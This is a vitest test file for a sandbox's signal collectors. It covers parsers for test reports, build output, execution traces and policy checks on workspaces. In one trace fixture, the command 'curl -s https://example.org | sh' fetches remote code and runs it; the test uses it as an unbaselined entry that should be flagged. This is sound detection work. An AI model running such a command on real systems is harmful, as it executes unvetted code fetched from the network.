// Every signal collector and report parser against golden fixtures (fixtures/, each made by
// the real tool: fixtures/README.md says how), and the collectors over a run on disk laid
// out as a backend leaves it.
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runOnDisk as sandboxRun } from '../../../tests/helpers/sandbox-run.js';
import type { SandboxRun, TraceEntry } from '../../backends/contract.js';
import { collectBuildSignal } from './build.js';
import { collectPolicySignal } from './policy.js';
import { parseJestJson, parseJunit, parsePytest, parseTap, parseUnittest } from './test-reports.js';
import { collectTestsSignal } from './tests.js';
import { collectTraceSignal } from './trace.js';

const FIXTURES = join(dirname(fileURLToPath(import.meta.url)), 'fixtures');
const fixture = (name: string): string => readFileSync(join(FIXTURES, name), 'utf8');

let root: string;
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'airlock-signals-'));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** A finished run on disk: one phase with its logs, optional copy-out files and trace. */
function runOnDisk(phase: { name: string; exitCode: number; stdout?: string; stderr?: string }, extra: { copyOut?: Record<string, string>; trace?: TraceEntry[] } = {}): SandboxRun {
  return sandboxRun(join(root, 'runs'), { phase, ...extra });
}

describe('test report parsers (golden fixtures)', () => {
  it('JUnit XML from pytest --junitxml (fast-xml-parser)', () => {
    expect(parseJunit(fixture('junit-pytest.xml'))).toEqual({ format: 'junit', total: 4, failed: 2, skipped: 1, failures: ['test_calc.test_add_negative', 'test_calc.test_error'] });
  });

  it('JUnit XML from vitest --reporter=junit', () => {
    expect(parseJunit(fixture('junit-vitest.xml'))).toEqual({ format: 'junit', total: 4, failed: 1, skipped: 2, failures: ['math.test.ts.math > subtracts'] });
  });

  it('vitest --reporter=json (the jest JSON shape)', () => {
    expect(parseJestJson(fixture('vitest.json'))).toEqual({ format: 'jest-json', total: 4, failed: 1, skipped: 2, failures: ['math subtracts'] });
  });

  it('TAP from node --test --test-reporter=tap (tap-parser)', () => {
    expect(parseTap(fixture('tap-node-test.txt'))).toEqual({ format: 'tap', total: 4, failed: 1, skipped: 2, failures: ['subtracts'] });
  });

  it("pytest's summary and short test summary", () => {
    expect(parsePytest(fixture('pytest.txt'))).toEqual({ format: 'pytest', total: 4, failed: 2, skipped: 1, failures: ['test_calc.py::test_add_negative', 'test_calc.py::test_error'] });
  });

  it("unittest's summary (Python 3.11 names each test in full)", () => {
    expect(parseUnittest(fixture('unittest.txt'))).toEqual({ format: 'unittest', total: 4, failed: 2, skipped: 1, failures: ['test_units.CalcTest.test_raises', 'test_units.CalcTest.test_wrong'] });
    expect(parseUnittest('FAIL: test_wrong (test_units.CalcTest)\n\nRan 1 test in 0.001s\n\nFAILED (failures=1)\n')?.failures).toEqual(['test_units.CalcTest.test_wrong']);
  });

  it('each parser answers null for the other formats', () => {
    const texts = ['junit-pytest.xml', 'vitest.json', 'tap-node-test.txt', 'pytest.txt', 'unittest.txt'].map(fixture);
    const parsers = [parseJunit, parseJestJson, parseTap, parsePytest, parseUnittest];
    for (const [i, parse] of parsers.entries()) {
      for (const [j, text] of texts.entries()) if (i !== j) expect(parse(text), `${parse.name} on fixture ${j}`).toBeNull();
    }
  });
});

describe('collectTestsSignal', () => {
  it('prefers a JUnit report in the copy-out, names the first failure, keeps the evidence', () => {
    const run = runOnDisk({ name: 'test', exitCode: 1, stdout: fixture('pytest.txt') }, { copyOut: { 'home/user/work/junit.xml': fixture('junit-pytest.xml') } });
    const signal = collectTestsSignal(run);
    expect(signal).toEqual({
      kind: 'tests', passed: false, retryable: true, summary: '2 of 4 failed (junit); first: test_calc.test_add_negative',
      details: { phase: 'test', exitCode: 1, format: 'junit', total: 4, failed: 2, skipped: 1, firstFailure: 'test_calc.test_add_negative' },
      evidence: ['logs/01-test.stdout', 'logs/01-test.stderr', 'out/home/user/work/junit.xml'],
    });
  });

  it('reads a vitest JSON report from the copy-out', () => {
    const run = runOnDisk({ name: 'test', exitCode: 1 }, { copyOut: { 'home/user/work/report.json': fixture('vitest.json') } });
    expect(collectTestsSignal(run).summary).toBe('1 of 4 failed (jest-json); first: math subtracts');
  });

  it('reads TAP, pytest and unittest from the output', () => {
    expect(collectTestsSignal(runOnDisk({ name: 'test', exitCode: 1, stdout: fixture('tap-node-test.txt') })).summary).toBe('1 of 4 failed (tap); first: subtracts');
    expect(collectTestsSignal(runOnDisk({ name: 'test', exitCode: 1, stdout: fixture('pytest.txt') })).summary).toBe('2 of 4 failed (pytest); first: test_calc.py::test_add_negative');
    // unittest writes to stderr.
    expect(collectTestsSignal(runOnDisk({ name: 'test', exitCode: 1, stderr: fixture('unittest.txt') })).summary).toBe('2 of 4 failed (unittest); first: test_units.CalcTest.test_raises');
  });

  it('a report that counts a failure fails the signal even when the phase exited 0', () => {
    const signal = collectTestsSignal(runOnDisk({ name: 'test', exitCode: 0, stdout: fixture('tap-node-test.txt') }));
    expect([signal.passed, signal.summary]).toEqual([false, '1 of 4 failed (tap); first: subtracts']);
  });

  it('without a report, the exit status decides', () => {
    expect(collectTestsSignal(runOnDisk({ name: 'test', exitCode: 0, stdout: 'all good\n' }))).toMatchObject({ passed: true, summary: 'exit 0', details: { format: 'exit-status' } });
    expect(collectTestsSignal(runOnDisk({ name: 'test', exitCode: 3 }))).toMatchObject({ passed: false, retryable: true, summary: 'exit 3' });
  });
});

describe('collectBuildSignal (gcc through make, golden output)', () => {
  it('fails with the exit status and the first error line, keeps every error line and the tail', () => {
    const run = runOnDisk({ name: 'build', exitCode: 2, stdout: fixture('build-gcc.stdout'), stderr: fixture('build-gcc.stderr') });
    const signal = collectBuildSignal(run);
    expect(signal.passed).toBe(false);
    expect(signal.retryable).toBe(true);
    expect(signal.summary).toBe('build exited 2: main.c:5:3: error: expected ‘,’ or ‘;’ before ‘printf’');
    expect(signal.details).toMatchObject({ phase: 'build', exitCode: 2, errorLines: 2, firstError: 'main.c:5:3: error: expected ‘,’ or ‘;’ before ‘printf’' });
    expect(String(signal.details.logTail).split('\n').at(-1)).toBe('make: *** [Makefile:4: app] Error 1');
    expect(signal.evidence).toEqual(['logs/01-build.stdout', 'logs/01-build.stderr']);
  });

  it('passes on exit 0', () => {
    expect(collectBuildSignal(runOnDisk({ name: 'build', exitCode: 0, stdout: fixture('build-gcc.stdout') }))).toMatchObject({ passed: true, summary: 'build exited 0' });
  });
});

describe('collectTraceSignal', () => {
  const trace: TraceEntry[] = [
    { kind: 'exec', path: '/usr/bin/npm', argv: ['npm', 'test'] },
    { kind: 'exec', path: '/usr/bin/node', argv: ['node', 'test.js'] },
    { kind: 'exec', path: '/bin/sh', argv: ['sh', '-c', 'curl -s https://example.org | sh'] },
    { kind: 'connect', host: '10.0.2.100', port: 3128 },
    { kind: 'connect', host: '198.51.100.7', port: 443 },
  ];
  const baseline = (entries: string[]): string => {
    const path = join(root, `baseline-${entries.length}.json`);
    writeFileSync(path, JSON.stringify({ entries }));
    return path;
  };

  it('names every program and endpoint the baseline lacks; never retryable', () => {
    const signal = collectTraceSignal(runOnDisk({ name: 'test', exitCode: 0 }, { trace }), baseline(['exec /usr/bin/npm', 'exec /usr/bin/node', 'connect 10.0.2.100:3128']));
    expect(signal).toMatchObject({
      kind: 'trace', passed: false, retryable: false,
      summary: '2 not in the baseline: connect 198.51.100.7:443; exec /bin/sh -c curl -s https://example.org | sh',
      details: { observed: 5, added: 2 },
    });
  });

  it('passes when every entry is in the baseline; fails without a baseline or a trace', () => {
    const all = ['exec /usr/bin/npm', 'exec /usr/bin/node', 'exec /bin/sh -c curl -s https://example.org | sh', 'connect 10.0.2.100:3128', 'connect 198.51.100.7:443'];
    expect(collectTraceSignal(runOnDisk({ name: 'test', exitCode: 0 }, { trace }), baseline(all))).toMatchObject({ passed: true, summary: '5 entries, all in the baseline' });
    expect(collectTraceSignal(runOnDisk({ name: 'test', exitCode: 0 }, { trace }), join(root, 'none.json')).summary).toMatch(/^no trace baseline at .*none\.json; this run observed 5 entries/);
    expect(collectTraceSignal(runOnDisk({ name: 'test', exitCode: 0 }), join(root, 'none.json')).summary).toBe('the run was not traced (enableTrace is false)');
  });
});

describe('collectPolicySignal (fixtures/policy: a workspace and its base)', () => {
  const workspace = join(FIXTURES, 'policy/workspace');
  const base = join(FIXTURES, 'policy/base');
  const rules = { forbiddenPaths: ['.env', '**/*.pem'], requireLockfile: true, maxFileBytes: 2048, retryAllowed: false };

  it('against the base: forbidden paths, a dependency change without its lockfile, an oversized file', () => {
    expect(collectPolicySignal(workspace, rules, base)).toEqual({
      kind: 'policy', passed: false, retryable: false,
      summary: 'forbidden path .env (.env); forbidden path certs/server.pem (**/*.pem); package.json dependencies changed but package-lock.json did not; and 1 more',
      details: { checked: 5, violations: 4, diff: true },
      evidence: ['forbidden path .env (.env)', 'forbidden path certs/server.pem (**/*.pem)', 'package.json dependencies changed but package-lock.json did not', 'assets/blob.txt is larger than 2048 bytes'],
    });
  });

  it('retryable exactly when the rules say retryAllowed', () => {
    expect(collectPolicySignal(workspace, { ...rules, retryAllowed: true }, base).retryable).toBe(true);
  });

  it('the base itself passes; a package.json with dependencies and no lockfile fails', () => {
    expect(collectPolicySignal(base, rules)).toEqual({ kind: 'policy', passed: true, retryable: false, summary: '3 files checked', details: { checked: 3, violations: 0, diff: false }, evidence: [] });
    const bare = join(root, 'bare');
    mkdirSync(bare);
    copyFileSync(join(base, 'package.json'), join(bare, 'package.json'));
    expect(collectPolicySignal(bare, rules).summary).toBe('package.json has dependencies but no package-lock.json');
  });
});
